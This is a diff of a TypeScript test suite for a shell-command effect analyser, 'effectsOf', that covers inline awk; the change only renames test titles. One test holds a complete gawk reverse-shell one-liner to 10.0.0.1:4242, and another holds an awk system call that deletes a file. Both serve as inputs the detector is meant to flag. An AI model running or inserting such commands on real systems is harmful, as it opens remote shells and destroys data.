@@ -47,11 +47,11 @@ const table: Readonly<Record<string, readonly string[]>> = {
 };
 
 describe('inline awk', () => {
-	it.each(Object.entries(table))('%s', (code, expected) => {
+	it.each(Object.entries(table))('has exactly the expected effects: %s', (code, expected) => {
 		expect(effectsOf(`awk ${quoted(code)}`)).toEqual([...expected].sort());
 	});
 
-	it('knows a reverse shell', () => {
+	it('is recognized as a reverse shell', () => {
 		const code =
 			'BEGIN {s = "/inet/tcp/0/10.0.0.1/4242"; while (42) { do { printf "> " |& s; s |& getline c; if (c) { while ((c |& getline) > 0) print $0 |& s; close(c) } } while (c != "exit"); close(s) }}';
 		expect(effectsOf(`awk ${quoted(code)}`)).toContain('reverse shell');
@@ -64,7 +64,7 @@ describe('inline awk', () => {
 		['awk -f x.awk a', ['exec x.awk', 'read a']],
 		["gawk -e '{print}' -e 'BEGIN {system(\"rm x\")}' a", ['delete x', 'read a']],
 		["cat a | awk '{print}' | sort", ['read a']],
-	])('%s', (command, expected) => {
+	])('has the expected effects in a whole command: %s', (command, expected) => {
 		expect(effectsOf(command)).toEqual([...expected].sort());
 	});
 });
